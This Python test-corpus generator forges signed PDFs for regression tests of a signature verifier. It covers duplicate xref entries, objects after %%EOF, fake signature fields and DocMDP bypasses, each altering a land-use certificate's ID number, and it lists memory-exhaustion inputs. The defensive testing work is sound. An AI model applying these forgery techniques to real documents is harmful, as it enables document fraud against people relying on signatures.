"""Attack classes found by the attacker review of the new verifier (closed by commit 47f0b82);
called by make_corpus.py with its own module as `mc`.

The review (its scripts `attack_*.py` and `dos_*.py`) forged signed documents that kyso
verified as TOTAL-PASSED, and wrote inputs that exhausted its memory or time. Each class is a
case here, re-made with the corpus PKI (signer pki/rsa.pem under pki/inter.pem and
pki/root.pem; keys in mc.KEYS) and tools we did not write: pyHanko signs (PAdES,
/SubFilter /ETSI.CAdES.detached), pyca/cryptography makes certificates and CRLs,
asn1crypto edits CMS, and the incremental updates pyHanko will not write (an xref section
listing an object twice, an object after %%EOF, a page dictionary with a key given twice,
...) are written by this script with attacks_pdf.py's helpers (ISO 32000-1 §7.5.6).

What a viewer shows was checked with Poppler 22.12 (`pdftotext -layout`, and `pdftoppm`
renderings) and MuPDF 1.21 (`mutool draw -F txt`, and PNG renderings); `shows()` re-checks
the text claims when those tools are installed.

`BEFORE` is what the kyso binary built before commit 47f0b82 printed for each case (`kyso
verify FILE --trust pki/root.pem … --json`, run over the generated files).
"""
import asyncio
import datetime as dt
import io
import os
import re
import shutil
import struct
import subprocess
import tempfile
import zlib

from asn1crypto import cms as acms
from asn1crypto import crl as acrl
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.name import _ASN1Type
from pyhanko.keys import load_cert_from_pemder, load_private_key_from_pemder
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter
from pyhanko.sign.signers.pdf_cms import PdfCMSSignedAttributes
from pyhanko_certvalidator.registry import SimpleCertificateStore

import attacks_pdf as ap
import attacks_pki as pk

UTC = dt.timezone.utc
NOWHERE = "http://127.0.0.1:9"  # loopback, discard port: nothing answers, a fetch fails at once

FAILED = ("TOTAL-FAILED", "FORMAT_FAILURE")
PASSED = ("TOTAL-PASSED", None)
NO_SIG = ("NO_SIGNATURE", None)
WARNED = ("INDETERMINATE", "SIG_CONSTRAINTS_FAILURE")

# The verdict of the kyso binary built before commit 47f0b82 (`kyso verify FILE --trust
# pki/root.pem … --json`), recorded by running it over the generated files; "CRASH" where it
# gave no report.
BEFORE = {
    "xref-table-lists-object-twice": PASSED,
    "xref-stream-lists-object-twice": PASSED,
    "objstm-index-vs-number": PASSED,
    "object-after-eof-without-xref": PASSED,
    "page-contents-key-given-twice": PASSED,
    "fake-signed-widget-after-approval": PASSED,
    "fake-signed-stamp-after-approval": PASSED,
    "fake-signed-widget-after-certification-p2": PASSED,
    "fake-signed-stamp-after-certification-p2": PASSED,
    "docmdp-p1-fake-doc-timestamp-no-appearance": PASSED,
    "docmdp-p1-fake-doc-timestamp-indirect-rect": PASSED,
    "fake-certification-p3-annotation": PASSED,
    "fake-certification-p2-field-refilled": PASSED,
    "empty-signature-field-painted-after-approval": PASSED,
    "empty-signature-field-painted-after-certification-p2": PASSED,
    "signed-field-kid-widget-appearance-replaced": PASSED,
    "signed-field-kid-widget-control": PASSED,
    "fieldmdp-lock-name-pdfdocencoding": PASSED,
    "form-dr-font-swapped-after-approval": PASSED,
    "form-dr-font-swapped-after-certification-p2": PASSED,
    "form-da-changed-after-approval": PASSED,
    "form-dr-font-swapped-every-field-has-appearance": PASSED,
    "resource-named-p-xobject-replaced": PASSED,
    "resource-named-parent-font-replaced": PASSED,
    "page-inherits-resources-from-orphan-parent": PASSED,
    "pages-node-without-type-content-replaced": PASSED,
    "pages-node-type-given-twice-content-replaced": PASSED,
    "page-tree-bogus-kid-annotation-added": PASSED,
    "structural-place-pages-annots-xobject-replaced": PASSED,
    "structural-place-page-kids-xobject-replaced": PASSED,
    "structural-place-field-xobject-replaced": PASSED,
    "backdated-claim-with-old-crl": PASSED,
    "backdated-claim-with-current-crl": ("INDETERMINATE", "REVOKED_NO_POE"),
    "crl-issuer-printablestring-revoked": PASSED,
    # Under a 4 GiB address-space limit (given 16 GB: TOTAL-PASSED after 154 s, 13 GB resident).
    "dos-dss-flate-bomb": ("CRASH", "out of memory (SIGABRT)"),
    # The same verdict, in 8.8 s (0.5 s after the fix).
    "dos-objstm-quadratic": NO_SIG,
    # Under a 4 GiB address-space limit (given 16 GB: NO_SIGNATURE after 303 s, 6.3 GB resident).
    "dos-xref-stream-60m-entries": ("CRASH", "out of memory (SIGABRT)"),
}

mc = None  # make_corpus, set by make()


# --- Documents written by hand -----------------------------------------------------------------

def build(objs, root=1):
    """A PDF with the given objects ({number: body}) and one xref table (ISO 32000-1 §7.5.4)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    size = max(objs) + 1
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        out += b"%010d 00000 n \n" % offs[n] if n in offs else b"0000000000 00000 f \n"
    out += (b"trailer\n<< /Size %d /Root %d 0 R /ID [<0123456789abcdef0123456789abcdef> "
            b"<0123456789abcdef0123456789abcdef>] >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, x))
    return bytes(out)


stream = ap.stream
# A land-use certificate in Helvetica (WinAnsi), so pdftotext shows its text as written.
TEXT = (b"BT /F1 16 Tf 60 760 Td (GIAY CHUNG NHAN QUYEN SU DUNG DAT) Tj ET\n"
        b"BT /F1 12 Tf 60 720 Td (Chu su dung: Nguyen Van An, CCCD 001099012345) Tj ET\n"
        b"BT /F1 12 Tf 60 700 Td (Thua dat so 123, to ban do so 45) Tj ET\n")
AREA = b"BT /F1 12 Tf 60 680 Td (Dien tich: 500 m2) Tj ET\n"
AREA_FORGED = b"BT /F1 12 Tf 60 680 Td (Dien tich: 5000 m2) Tj ET\n"
HELV = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
# Helvetica whose code 53 ('5') draws the glyph /eight: the same bytes read otherwise.
HELV_SWAP = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
             b"/BaseEncoding /WinAnsiEncoding /Differences [53 /eight] >> >>")
FORM_XO = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
LAND = "a one-page land-use certificate written by this script (Helvetica; “Dien tich: 500 m2”)"

# giay-phep.pdf: where page 1 shows the holder's identification number 001099012345.
ID_RECT = (319.0, 714.0, 420.0, 732.0)


def N(s):
    return generic.NameObject(s)


def page_ref(pdf):
    return ap.reader(pdf).root["/Pages"]["/Kids"].raw_get(0)


def overlay(w, pdf):
    """A form XObject added to writer w that paints a white box over the identification number
    of giay-phep.pdf's page 1 and draws 001099054321 in the page's own font (/F1, from its
    /ToUnicode CMap), sized to ID_RECT."""
    r = ap.reader(pdf)
    f1 = r.root["/Pages"]["/Kids"][0].get_object()["/Resources"]["/Font"].raw_get("/F1")
    x0, y0, x1, y1 = ID_RECT
    forged = ap.literal(ap.font_codes(pdf), "001099054321.")
    body = (b"1 1 1 rg 0 0 %.2f %.2f re f BT /F1 12 Tf 0 0 0 rg %.3f %.3f Td (" % (x1 - x0, y1 - y0, 321.484 - x0, 719.23 - y0)
            + forged + b") Tj ET")
    return w.add_object(generic.StreamObject({
        N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"), N("/BBox"): ap.num_array(0, 0, x1 - x0, y1 - y0),
        N("/Resources"): generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/F1"): f1})})},
        stream_data=body))


def add_to_annots(w, ref):
    """Append `ref` to page 1's /Annots (in place when the array is an indirect object)."""
    page = w.root["/Pages"]["/Kids"][0]
    pref = w.root["/Pages"]["/Kids"].raw_get(0)
    raw = page.raw_get("/Annots") if "/Annots" in page else None
    if isinstance(raw, generic.IndirectObject):
        raw.get_object().append(ref)
        w.mark_update(raw)
    else:
        arr = generic.ArrayObject(list(page.get("/Annots", [])))
        arr.append(ref)
        page[N("/Annots")] = arr
        w.mark_update(pref)


# --- What viewers show -------------------------------------------------------------------------

def viewers(pdf):
    """The text Poppler (`pdftotext -layout`) and MuPDF (`mutool draw -F txt`) get from a PDF,
    annotation appearances included; None when they are not installed."""
    if not (shutil.which("pdftotext") and shutil.which("mutool")):
        return None
    with tempfile.NamedTemporaryFile(suffix=".pdf") as f:
        f.write(pdf)
        f.flush()
        pop = subprocess.run(["pdftotext", "-layout", f.name, "-"], capture_output=True).stdout
        mu = subprocess.run(["mutool", "draw", "-F", "txt", f.name], capture_output=True).stdout
    return pop.decode(errors="replace"), mu.decode(errors="replace")


def shows(pdf, text, poppler=True, mupdf=True):
    """Check that Poppler and MuPDF show `text` (or, given False, do not)."""
    v = viewers(pdf)
    if v is None:
        return
    for who, got, want in (("Poppler", v[0], poppler), ("MuPDF", v[1], mupdf)):
        if want is not None:
            assert (text in got) == want, f"{who} {'does not show' if want else 'shows'} {text!r}"


# --- Signing and cases -------------------------------------------------------------------------

class Review:
    def __init__(self, mc_, made_with):
        self.mc, self.py = mc_, made_with
        fx = lambda f: open(os.path.join(mc_.FIXTURES, f), "rb").read()
        self.base, self.three = fx("giay-phep.pdf"), fx("three-pages.pdf")
        self.hand = made_with + " + an update written by tests/corpus/attacks_review.py"
        self.made = []

    def sign(self, data, field="Signature1", certify=False, perm=MDPPerm.FILL_FORMS, new_field=None, label="rsa"):
        """PAdES by pyHanko (/SubFilter /ETSI.CAdES.detached) with a signer of the corpus PKI;
        hand-written originals are read non-strictly."""
        w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
        meta = signers.PdfSignatureMetadata(field_name=field, certify=certify, subfilter=SigSeedSubFilter.PADES,
                                            docmdp_permissions=perm)
        out = io.BytesIO()
        signers.sign_pdf(w, meta, signer=self.mc.signer(label), new_field_spec=new_field, output=out)
        return out.getvalue()

    def case(self, slug, data, expect, klass, description, made_with=None, **kw):
        before = BEFORE.get(slug)
        if before is not None:
            if before[0] == "CRASH":
                description += f" Before commit 47f0b82 kyso gave no report: {before[1]} (see above)."
            else:
                description += " Before commit 47f0b82 kyso said " + before[0] + (f"/{before[1]}" if before[1] else "")
                description += "; already right, so the case guards against a regression." if before == expect else "."
        assert len(data) < 1 << 20, f"{slug}: {len(data)} bytes"
        self.mc.case(slug, data, expect, description, made_with or self.hand, attack_class="review: " + klass,
                     before=before, **kw)
        self.made.append(slug)


def make(mc_, made_with):
    global mc
    mc = mc_
    m = Review(mc_, made_with)
    parser_differentials(m)
    fake_signatures(m)
    unsigned_and_signed_fields(m)
    form_defaults(m)
    hidden_from_roles(m)
    revocation(m)
    exhaustion(m)
    return m.made


# --- M, F, P, I: readers that disagree on what the bytes say -----------------------------------

def parser_differentials(m):
    signed = m.sign(m.base)
    _, num = ap.page_content(signed)
    forged = ap.forge(signed)
    orig = list(re.finditer(rb"(?<![0-9])%d 0 obj" % num, signed))[-1].start()
    keys, size = ap.trailer_keys(signed)
    prev = ap.last_startxref(signed)
    signed_as = ("tests/fixtures/giay-phep.pdf signed by pyHanko (PAdES, Signer rsa)")
    number = "the holder's identification number changed 001099012345 → 001099054321"

    # M, table: one section lists object `num` twice, the forged copy first.
    out = bytearray(signed)
    if not out.endswith(b"\n"):
        out += b"\n"
    at = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (num, stream(forged))
    x = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (num, at, num, orig)
    out += b"trailer\n<< /Size %d %s/Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, keys, prev, x)
    attacked = bytes(out)
    shows(attacked, "001099054321")
    m.case("xref-table-lists-object-twice", attacked, FAILED, "M xref section listing an object twice",
           f"{signed_as}. After the signature an update written by this script appends a copy of "
           f"page 1's content stream (object {num}) with {number}, and an xref table whose one section "
           f"lists object {num} twice, in two subsections `{num} 1`: first at the forged copy, then at the "
           "original's offset. Poppler 22.12 (pdftotext) and MuPDF 1.21 (mutool draw -F txt) take the "
           "first entry and show 001099054321; the baseline kyso kept the last one (the original, "
           "unchanged) and saw no change. Which entry counts is not defined, and a verifier must not read "
           "another object than a viewer shows: a section listing one object twice with different "
           "entries is refused, the PDF cannot be read as it is: TOTAL-FAILED/FORMAT_FAILURE.")

    # M, stream: the same in a cross-reference stream (/Index [num 1 num 1 xs 1]).
    out = bytearray(signed)
    if not out.endswith(b"\n"):
        out += b"\n"
    at = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (num, stream(forged))
    x = len(out)
    rec = lambda t, o, g: bytes([t]) + o.to_bytes(5, "big") + g.to_bytes(2, "big")
    body = rec(1, at, 0) + rec(1, orig, 0) + rec(1, x, 0)
    d = b"/Type /XRef /W [1 5 2] /Index [%d 1 %d 1 %d 1] /Size %d %s/Prev %d" % (num, num, size, size + 1, keys, prev)
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (size, stream(body, d), x)
    attacked = bytes(out)
    shows(attacked, "001099054321")
    m.case("xref-stream-lists-object-twice", attacked, FAILED, "M xref section listing an object twice",
           f"Like xref-table-lists-object-twice, with a cross-reference stream: after {signed_as}, an "
           f"update written by this script appends the forged copy of object {num} ({number}) and an "
           f"unfiltered xref stream (/W [1 5 2]) whose /Index [{num} 1 {num} 1 {size} 1] lists object "
           f"{num} twice, the forged copy first. Poppler 22.12 and MuPDF 1.21 show 001099054321; the "
           "baseline kyso took the last entry. Refused: TOTAL-FAILED/FORMAT_FAILURE.")

    # F: an object stream holding the page twice; the xref points at index 1, the forged one.
    pnum = page_ref(signed).idnum
    page_raw = ap.raw_object(signed, pnum)
    cnum, snum = size, size + 1
    bad_page = re.sub(rb"/Contents\s+\d+\s+\d+\s+R", b"/Contents %d 0 R" % cnum, page_raw)
    assert bad_page != page_raw
    body, heads = b"", []
    for o in (page_raw, bad_page):
        heads.append(b"%d %d" % (pnum, len(body)))
        body += o + b"\n"
    head = b" ".join(heads) + b"\n"
    attacked, _, _ = ap.append_update(
        signed, [(cnum, stream(forged)), (snum, stream(head + body, b"/Type /ObjStm /N 2 /First %d " % len(head)))],
        entries={pnum: (snum, 1, "s")}, table=False)
    shows(attacked, "001099054321", poppler=True, mupdf=False)
    m.case("objstm-index-vs-number", attacked, FAILED, "F object stream index vs number",
           f"{signed_as}. After the signature an xref-stream update written by this script adds a content "
           f"stream (object {cnum}) with {number}, and an object stream {snum} (unfiltered, /N 2) that "
           f"holds page 1's dictionary (object {pnum}) twice: at index 0 an exact copy of the signed page, at "
           f"index 1 the page with /Contents {cnum} 0 R; the xref entry says object {pnum} is at index 1. "
           "Poppler 22.12 reads the index the xref gives and shows 001099054321; MuPDF 1.21 keeps the first "
           f"definition (“Encountered new definition for object {pnum} - keeping the original one”) and shows the "
           "original; the baseline kyso searched the stream for the first object with that number, found "
           "the copy and saw no change. The entry at the xref's index must carry the number asked for, and "
           "an object stream holding one number twice is refused: the page became unreadable: "
           "TOTAL-FAILED/FORMAT_FAILURE.")

    # P: an object appended after %%EOF, with no xref section, then more than 1 KiB of comments.
    out = bytearray(signed)
    out += b"%d 0 obj\n%s\nendobj\n" % (num, stream(zlib.compress(forged), b"/Filter /FlateDecode "))
    out += (b"%" + b" " * 78 + b"\n") * (1400 // 80)
    attacked = bytes(out)
    shows(attacked, "001099054321", poppler=False, mupdf=True)
    tail = len(attacked) - len(signed)
    m.case("object-after-eof-without-xref", attacked, FAILED, "P object after %%EOF without xref",
           f"{signed_as}. After its %%EOF this script appends `{num} 0 obj` (page 1's content stream, "
           f"Flate, {number}) with no xref section and no startxref, then 17 comment lines of 80 bytes: "
           f"{tail} bytes no section lists. The signed revision's startxref is still within the last 2 KiB, "
           "where the baseline kyso looked, and it saw the signed file unchanged. MuPDF 1.21 finds no "
           "startxref in the last bytes, repairs the file by scanning (“trying to repair broken xref”) and "
           f"the last `{num} 0 obj` wins: it shows 001099054321 (Poppler 22.12 still shows the original). "
           "Bytes after the last %%EOF that no section lists fail the signature: "
           "TOTAL-FAILED/FORMAT_FAILURE.")

    # I: page 1 rewritten with /Contents given twice, the forged stream first.
    cm = re.search(rb"/Contents\s+\d+\s+\d+\s+R", page_raw)
    assert cm
    inner = page_raw.strip()[2:-2]
    page2 = b"<< /Contents %d 0 R %s >>" % (size, inner)
    attacked, _, _ = ap.append_update(signed, [(size, stream(forged)), (pnum, page2)])
    shows(attacked, "001099012345")
    m.case("page-contents-key-given-twice", attacked, FAILED, "I dictionary key given twice",
           f"{signed_as}. After the signature an update written by this script adds a content stream "
           f"(object {size}) with {number} and rewrites page 1 (object {pnum}) as `<< /Contents {size} 0 R` "
           "followed by every key of the signed page, its own /Contents included `>>`: /Contents twice. "
           "Readers disagree: Poppler 22.12 and MuPDF 1.21 take the last value and show the original; "
           "pyHanko 0.38's reader takes the first (“Multiple definitions in dictionary … for key "
           "/Contents”) and reads the forged stream; the baseline kyso took the last and saw an unchanged "
           "page. A key given twice with different values is a syntax error, so the page is unreadable: "
           "TOTAL-FAILED/FORMAT_FAILURE.")


# --- A, V, G: annotations and fields that claim to be signed -------------------------------------

FAKE_TS = b"/FT /Sig /V << /Type /DocTimeStamp /ByteRange [] /Contents 0 >>"


def fake_signed_annot(pdf, subtype):
    """An annotation that calls itself a signature field (/FT /Sig /T Signature2) with a /V
    that has /ByteRange and /Contents keys but no signature (not strings, so no scan for
    signatures picks it up); its appearance is the forged identification number."""
    def mutate(w):
        xo = overlay(w, pdf)
        ref = w.add_object(generic.DictionaryObject({
            N("/Type"): N("/Annot"), N("/Subtype"): N(subtype), N("/FT"): N("/Sig"),
            N("/Rect"): ap.num_array(*ID_RECT), N("/F"): generic.NumberObject(4),
            N("/T"): generic.TextStringObject("Signature2"), N("/AP"): generic.DictionaryObject({N("/N"): xo}),
            N("/V"): generic.DictionaryObject({N("/ByteRange"): generic.ArrayObject([]),
                                               N("/Contents"): generic.NumberObject(0)})}))
        add_to_annots(w, ref)
    return ap.update(pdf, mutate)


def p1_fake_doc_timestamp(signed, variant):
    """Annotations that carry `/FT /Sig /V << /Type /DocTimeStamp … >>` after a DocMDP P=1
    certification, drawn without /AP (no-ap) or with a /Rect whose numbers are indirect."""
    size = ap.trailer_keys(signed)[1]
    pnum = page_ref(signed).idnum
    page_raw = ap.raw_object(signed, pnum)
    if variant == "no-ap":
        sq = (b"<< /Type /Annot /Subtype /Square /Rect [319 714 420 732] /IC [1 1 1] /C [1 1 1] /BS << /W 0 >> "
              b"/F 4 %s >>" % FAKE_TS)
        ft = (b"<< /Type /Annot /Subtype /FreeText /Rect [319 713 430 733] /F 4 /DA (/Helv 12 Tf 0 g) "
              b"/DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
              b"/Contents (001099054321.) /BS << /W 0 >> %s >>" % FAKE_TS)
        objs = [(size, sq), (size + 1, ft)]
        refs = b"%d 0 R %d 0 R" % (size, size + 1)
    else:
        xo = stream(b"1 1 1 rg 0 0 101 18 re f BT /Helv 12 Tf 0 g 2.5 5.2 Td (001099054321.) Tj ET",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 101 18] /Resources << /Font << /Helv << /Type /Font "
                    b"/Subtype /Type1 /BaseFont /Helvetica >> >> >> ")
        an = (b"<< /Type /Annot /Subtype /Widget /Rect [319 714 %d 0 R %d 0 R] /F 4 /AP << /N %d 0 R >> %s >>"
              % (size + 2, size + 3, size + 1, FAKE_TS))
        objs = [(size, an), (size + 1, xo), (size + 2, b"420"), (size + 3, b"732")]
        refs = b"%d 0 R" % size
    mm = re.search(rb"/Annots\s*(\[[^\]]*\]|\d+ \d+ R)", page_raw)
    if mm is None:
        objs.append((pnum, page_raw.strip()[:-2] + b" /Annots [" + refs + b"] >>"))
    elif mm.group(1).startswith(b"["):
        objs.append((pnum, page_raw.replace(mm.group(1), mm.group(1)[:-1] + b" " + refs + b"]")))
    else:
        n = int(mm.group(1).split()[0])
        objs.append((n, ap.raw_object(signed, n).strip()[:-1] + b" " + refs + b"]"))
    return ap.append_update(signed, objs)[0]


def fake_certification(signed, p, annotate=False, change=None):
    """A new signature field Signature0 whose /V is an inline (direct) signature dictionary with
    the /ByteRange and /Contents of the document's real signature (so it verifies: same bytes,
    same CMS) and a /Reference granting DocMDP /P p; then an annotation or a field change."""
    mm = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed)
    br = [int(x) for x in mm.groups()]
    contents = signed[br[1] + 1:br[2] - 1]

    def mutate(w):
        v = generic.DictionaryObject({
            N("/Type"): N("/Sig"), N("/Filter"): N("/Adobe.PPKLite"), N("/SubFilter"): N("/ETSI.CAdES.detached"),
            N("/ByteRange"): generic.ArrayObject([generic.NumberObject(x) for x in br]),
            N("/Contents"): generic.ByteStringObject(bytes.fromhex(contents.decode())),
            N("/Reference"): generic.ArrayObject([generic.DictionaryObject({
                N("/Type"): N("/SigRef"), N("/TransformMethod"): N("/DocMDP"),
                N("/TransformParams"): generic.DictionaryObject({
                    N("/Type"): N("/TransformParams"), N("/P"): generic.NumberObject(p), N("/V"): N("/1.2")})})]),
        })
        f = w.add_object(generic.DictionaryObject({N("/FT"): N("/Sig"), N("/T"): generic.TextStringObject("Signature0"),
                                                   N("/V"): v}))
        af = w.root.raw_get("/AcroForm")
        form = w.root["/AcroForm"]
        form["/Fields"].append(f)
        if isinstance(form.raw_get("/Fields"), generic.IndirectObject):
            w.mark_update(form.raw_get("/Fields"))
        elif isinstance(af, generic.IndirectObject):
            w.mark_update(af)
        else:
            w.update_root()
        if annotate:
            a = w.add_object(generic.DictionaryObject({
                N("/Type"): N("/Annot"), N("/Subtype"): N("/FreeText"), N("/Rect"): ap.num_array(*ID_RECT),
                N("/F"): generic.NumberObject(4), N("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                N("/Contents"): generic.TextStringObject(""),
                N("/AP"): generic.DictionaryObject({N("/N"): overlay(w, signed)})}))
            add_to_annots(w, a)
        if change:
            change(w)
    return ap.update(signed, mutate)


def refill_so_ho_so(w):
    """three-pages.pdf's text field so_ho_so (HS-2026-0001, no appearance) given the value
    HS-2026-9999 and an appearance that draws it."""
    fields_ = w.root["/AcroForm"]["/Fields"]
    i = next(i for i, f in enumerate(fields_) if f.get_object().get("/T") == "so_ho_so")
    fld, ref = fields_[i].get_object(), fields_.raw_get(i)
    fld[N("/V")] = generic.TextStringObject("HS-2026-9999")
    xo = w.add_object(generic.StreamObject({
        N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"), N("/BBox"): ap.num_array(0, 0, 200, 20),
        N("/Resources"): generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/Helv"): generic.DictionaryObject({
            N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"), N("/BaseFont"): N("/Helvetica")})})})},
        stream_data=b"1 1 1 rg 0 0 200 20 re f BT /Helv 12 Tf 0 g 2 5 Td (HS-2026-9999) Tj ET"))
    fld[N("/AP")] = generic.DictionaryObject({N("/N"): xo})
    w.mark_update(ref)


def fake_signatures(m):
    approval = m.sign(m.base)
    certified = m.sign(m.base, certify=True, perm=MDPPerm.FILL_FORMS)
    for tag, signed, what, why in [
        ("approval", approval, "signed by pyHanko (PAdES approval signature, Signer rsa)",
         "after an approval signature no annotation may be added"),
        ("certification-p2", certified, "certified by pyHanko (PAdES, Signer rsa, /DocMDP /P 2)",
         "P=2 allows form filling and signing, not annotations"),
    ]:
        for sub in ("Widget", "Stamp"):
            attacked = fake_signed_annot(signed, "/" + sub)
            shows(attacked, "001099054321")
            m.case(f"fake-signed-{sub.lower()}-after-{tag}", attacked, FAILED, "A annotation claiming to be a later signature",
                   f"tests/fixtures/giay-phep.pdf {what}. Then pyHanko's incremental writer adds to page 1 a /{sub} "
                   "annotation that claims to be a signed signature field: /FT /Sig, /T (Signature2), and a /V "
                   "dictionary with the keys /ByteRange [] and /Contents 0 (no signature: not strings, so no scan for "
                   "signatures finds one); it is in no form's /Fields. Its /AP /N paints a white box over the "
                   "holder's identification number and draws 001099054321 in the page's own font: Poppler 22.12 "
                   "and MuPDF 1.21 draw it over the signed number. The baseline kyso took the annotation for a "
                   "later signature and only noted it. A new signature widget counts as signed only if its field "
                   "holds a signature kyso validates; this is a new annotation, and "
                   f"{why}: TOTAL-FAILED/FORMAT_FAILURE.", m.py + " incremental writer")

    p1 = m.sign(m.base, certify=True, perm=MDPPerm.NO_CHANGES)
    no_ap = p1_fake_doc_timestamp(p1, "no-ap")
    shows(no_ap, "001099054321")
    claim = ("`/FT /Sig /V << /Type /DocTimeStamp /ByteRange [] /Contents 0 >>` (claims of a document "
             "time-stamp: keys only, /Contents 0 keeps it out of the scan for signatures)")
    m.case("docmdp-p1-fake-doc-timestamp-no-appearance", no_ap, FAILED, "V DocMDP P=1 bypass with a fake document time-stamp",
           "tests/fixtures/giay-phep.pdf certified by pyHanko (PAdES, Signer rsa, /DocMDP /P 1: no change allowed, "
           "but for validation data and invisible document time-stamps). After it an update written by this "
           "script adds to page 1 a white Square annotation (/IC [1 1 1], no border) over the identification "
           "number and a FreeText annotation “001099054321.” (/DA Helvetica 12, /Contents), both without /AP, "
           f"both carrying {claim}. The baseline kyso took them for invisible document time-stamps (no "
           "appearance stream); viewers draw annotations without /AP from their own keys: Poppler 22.12 and "
           "MuPDF 1.21 show 001099054321 over the number. A document time-stamp is one kyso validates, and "
           "visibility comes from the /Rect and flags: two annotations added under P=1: "
           "TOTAL-FAILED/FORMAT_FAILURE.")
    ind = p1_fake_doc_timestamp(p1, "indirect-rect")
    shows(ind, "001099054321", poppler=True, mupdf=False)
    m.case("docmdp-p1-fake-doc-timestamp-indirect-rect", ind, FAILED, "V DocMDP P=1 bypass with a fake document time-stamp",
           "Like docmdp-p1-fake-doc-timestamp-no-appearance: after pyHanko's P=1 certification of "
           "tests/fixtures/giay-phep.pdf, an update written by this script adds a Widget annotation with "
           f"{claim} and an /AP /N (white box, “001099054321.” in Helvetica), whose /Rect is "
           "[319 714 N 0 R M 0 R]: its upper-right corner is two indirect integer objects (420, 732). The "
           "baseline kyso read the indirect numbers as 0, found an empty area and took it for an invisible "
           "document time-stamp; Poppler 22.12 resolves them and draws 001099054321 over the number (MuPDF "
           "1.21 does not draw it). Visibility from the resolved /Rect, and the time-stamp is not one: a "
           "widget added under P=1: TOTAL-FAILED/FORMAT_FAILURE.")

    attacked = fake_certification(approval, 3, annotate=True)
    shows(attacked, "001099054321")
    m.case("fake-certification-p3-annotation", attacked, FAILED, "G unsigned copy of a signature granting DocMDP",
           "tests/fixtures/giay-phep.pdf signed by pyHanko (PAdES approval signature, Signer rsa: no "
           "certification, so no later annotation is allowed). After it pyHanko's incremental writer adds a "
           "signature field Signature0 whose /V is an inline signature dictionary copying the real "
           "signature's /ByteRange and /Contents (it verifies: the same bytes and CMS) with a /Reference "
           "DocMDP /P 3 the signer never signed, and a FreeText annotation whose appearance draws "
           "001099054321 over the identification number (Poppler 22.12 and MuPDF 1.21 show it). The baseline "
           "kyso validated the copy as a certification allowing annotations: both signatures TOTAL-PASSED. "
           "An inline signature dictionary must be its field's value in the signed revision (Signature0: "
           "“not part of the revision it signs”), and the certification level is read from the signed "
           "revision's /Perms: the annotation breaks Signature1: TOTAL-FAILED/FORMAT_FAILURE.",
           m.py + " incremental writer")
    approval3 = m.sign(m.three)
    attacked = fake_certification(approval3, 2, change=refill_so_ho_so)
    shows(attacked, "HS-2026-9999")
    m.case("fake-certification-p2-field-refilled", attacked, FAILED, "G unsigned copy of a signature granting DocMDP",
           "tests/fixtures/three-pages.pdf (text field so_ho_so = HS-2026-0001, no appearance) signed by "
           "pyHanko (PAdES approval signature, Signer rsa). After it pyHanko's incremental writer adds a "
           "signature field Signature0 whose inline /V copies the real signature's /ByteRange and /Contents "
           "with a /Reference DocMDP /P 2 (form filling allowed), and fills so_ho_so with HS-2026-9999 and an "
           "appearance drawing it (Poppler 22.12 and MuPDF 1.21 show HS-2026-9999). The baseline kyso took "
           "the copy as a P=2 certification: TOTAL-PASSED. The copy is not part of the revision it signs, and "
           "no certification in the signed revision permits the change: TOTAL-FAILED/FORMAT_FAILURE.",
           m.py + " incremental writer")


# --- H, H2, L: empty, signed and locked fields -------------------------------------------------

def paint_empty_field(signed, name):
    """The empty signature field `name` (field and widget in one object) given /AP /N (the
    forged-number overlay) and /F 4; no /V."""
    def mutate(w):
        fields_ = w.root["/AcroForm"]["/Fields"]
        for i, f in enumerate(fields_):
            f = f.get_object()
            if f.get("/T") == name:
                f[N("/AP")] = generic.DictionaryObject({N("/N"): overlay(w, signed)})
                f[N("/F")] = generic.NumberObject(4)
                w.mark_update(fields_.raw_get(i))
    return ap.update(signed, mutate)


def h2_doc():
    """A signature field Signature1 (object 6) whose widget is a separate kid (object 7, with
    an appearance, object 8): the value will be on the parent, not on the widget."""
    return build({
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> "
           b"/Annots [7 0 R] >>",
        4: stream(TEXT + AREA), 5: HELV,
        6: b"<< /FT /Sig /T (Signature1) /Kids [7 0 R] >>",
        7: b"<< /Type /Annot /Subtype /Widget /Parent 6 0 R /P 3 0 R /Rect [300 60 500 120] /F 4 /AP << /N 8 0 R >> >>",
        8: stream(b"0 0 1 RG 1 1 198 58 re S", b"/Type /XObject /Subtype /Form /BBox [0 0 200 60] "),
    })


